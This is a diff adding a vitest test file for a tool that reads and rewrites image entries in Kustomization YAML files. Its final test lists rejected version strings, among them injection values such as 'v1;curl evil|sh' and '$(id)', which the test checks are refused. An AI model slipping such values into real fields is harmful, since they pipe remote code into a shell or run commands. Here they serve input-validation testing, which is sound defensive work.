@@ -1,0 +1,119 @@
+import { describe, expect, test } from "vitest";
+import { DIGEST, listed, pinAt, scanTexts, setIn } from "./given.ts";
+
+const entries = (...lines: string[]) => `kind: Kustomization\nimages:\n${lines.join("\n")}\n`;
+
+describe("the entries of `images`", () => {
+  test("are found with what they name now", () => {
+    const text = entries(
+      "- name: IMAGE_PLACEHOLDER",
+      "  newName: acme/app",
+      "  newTag: b15411f387bb2a2286676b92a87fd85aa9b682a5",
+      "- name: nginx",
+      '  newTag: "1.10"',
+      `  digest: ${DIGEST}`,
+      "- name: nginx:1.9",
+      "  newName: ghcr.io/acme/nginx:2.0.0",
+      "- name: redis",
+      `  digest: ${DIGEST}`,
+    );
+    expect(listed(scanTexts({ "kustomization.yaml": text }))).toEqual([
+      "kustomization.yaml:5:11 images[name=IMAGE_PLACEHOLDER] docker.io/acme/app b15411f387bb2a2286676b92a87fd85aa9b682a5 exact",
+      `kustomization.yaml:7:11 images[name=nginx] docker.io/library/nginx 1.10@${DIGEST} exact`,
+      "kustomization.yaml:10:12 images[name=nginx:1.9] ghcr.io/acme/nginx 2.0.0 exact",
+      `kustomization.yaml:12:11 images[name=redis] docker.io/library/redis @${DIGEST} exact`,
+    ]);
+  });
+
+  test.each([
+    ["kustomization.yaml", "images: [{name: a, newTag: v1}]\n", 1],
+    ["a/kustomization.yml", "images: [{name: a, newTag: v1}]\n", 1],
+    ["a/Kustomization", "kind: Kustomization\nimages: [{name: a, newTag: v1}]\n", 1],
+    [
+      "a/kustomization.yaml",
+      "apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nimages: [{name: a, newTag: v1}]\n",
+      1,
+    ],
+    ["other.yaml", "kind: Kustomization\nimages: [{name: a, newTag: v1}]\n", 0],
+    [
+      "a/kustomization.yaml",
+      "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nimages: [{name: a, newTag: v1}]\n",
+      0,
+    ],
+    ["a/kustomization.yaml", "kind: Kustomization\n---\nimages: [{name: a, newTag: v1}]\n", 0],
+    ["a/kustomization.yaml", "", 0],
+    ["a/kustomization.yaml", "- images\n", 0],
+  ])("in %s holding %j: %i pins", (path, text, count) => {
+    expect(scanTexts({ [path]: text }).pins).toHaveLength(count);
+  });
+
+  test("without a version take that of the resources, and are said to have none of their own", () => {
+    const scan = scanTexts(
+      {
+        "prod/kustomization.yaml": `resources: [../base]\n${entries("- name: app", "  newName: acme/app")}`,
+        "base/kustomization.yaml": "resources: [pod.yaml]\n",
+        "base/pod.yaml": "apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, image: app:1.0.0}]}\n",
+      },
+      ["prod"],
+    );
+    expect(listed(scan)).toEqual(["prod/kustomization.yaml:4:9 images[name=app] docker.io/acme/app 1.0.0 absent"]);
+  });
+
+  test.each([
+    ["two entries of one name", entries("- name: a", "  newTag: v1", "- name: a", "  newTag: v2"), "lines 3 and 5"],
+    ["newTag twice", entries("- name: a", "  newTag: v1", "  newTag: v2"), '"newTag" stands twice, in lines 4 and 5'],
+    ["newTag twice in two cases", entries("- name: a", "  newTag: v1", "  newtag: v2"), "lines 4 and 5"],
+    ["images twice", `${entries("- name: a", "  newTag: v1")}images: [{name: a, newTag: v1}]\n`, "lines 2 and 5"],
+    ["an alias", `x: &v v1\n${entries("- name: a", "  newTag: *v")}`, "alias *v, written in line 1"],
+    ["an anchor in use", `${entries("- name: a", "  newTag: &v v1")}x: *v\n`, "*v in line 5"],
+    ["a merge key", `x: &e {newTag: v1}\n${entries("- name: a", "  <<: *e")}`, "merge key (<<) from line 1"],
+    ["a shell variable", entries("- name: a", "  newTag: ${TAG}"), "substituted later (${TAG})"],
+    ["a template", entries("- name: a", "  newTag: '{{ .Tag }}'"), "template ({{ .Tag }})"],
+    ["an unquoted template", entries("- name: a", "  newTag: {{ tag }}"), "template ({{ tag }})"],
+    [
+      "a marker comment",
+      entries("- name: a", '  newTag: v1 # {"$imagepolicy": "flux-system:a:tag"}'),
+      "flux-system:a:tag",
+    ],
+    ["a version in newName too", entries("- name: a", "  newName: b:v1", "  newTag: v2"), "keep the version in one"],
+    ["a literal block", entries("- name: a", "  newTag: |-", "    v1"), "block scalar"],
+    ["a generated file", `# This file is generated: do not edit\n${entries("- name: a", "  newTag: v1")}`, "generated"],
+    ["an encrypted file", `${entries("- name: a", "  newTag: v1")}sops: {mac: "ENC[...]", version: 3.8.1}\n`, "SOPS"],
+  ])("are refused with %s, and the file stays", (_, text, reason) => {
+    const scan = scanTexts({ "kustomization.yaml": text });
+    const [pin] = scan.pins;
+    expect(pin).toBeDefined();
+    expect(() => setIn("kustomization.yaml", text, { [pin?.path ?? ""]: "v9" })).toThrow(reason);
+    expect(() => setIn("kustomization.yaml", text, { [pin?.path ?? ""]: "v9" })).toThrow(
+      `kustomization.yaml:${pin?.line}: `,
+    );
+  });
+
+  test("a marker comment says who writes here too", () => {
+    const text = entries("- name: a", '  newTag: v1 # {"$imagepolicy": "flux-system:a:tag"}');
+    expect(pinAt(scanTexts({ "kustomization.yaml": text }), "images[name=a]").automation).toContain(
+      "flux-system:a:tag",
+    );
+  });
+});
+
+describe("a version that is none", () => {
+  const text = entries("- name: a", "  newTag: v1");
+  test.each([
+    "v1\n  injected: true",
+    "$(id)",
+    "v1;curl evil|sh",
+    "${{ secrets.X }}",
+    "a".repeat(129),
+    "-x",
+    ".x",
+    "a b",
+    "",
+    "a:b",
+    "v1@sha256:abc",
+    "v1@",
+    `v1@sha256:${"A".repeat(64)}`,
+  ])("%j never gets in", (to) => {
+    expect(() => setIn("kustomization.yaml", text, { "images[name=a]": to })).toThrow("is no image version");
+  });
+});
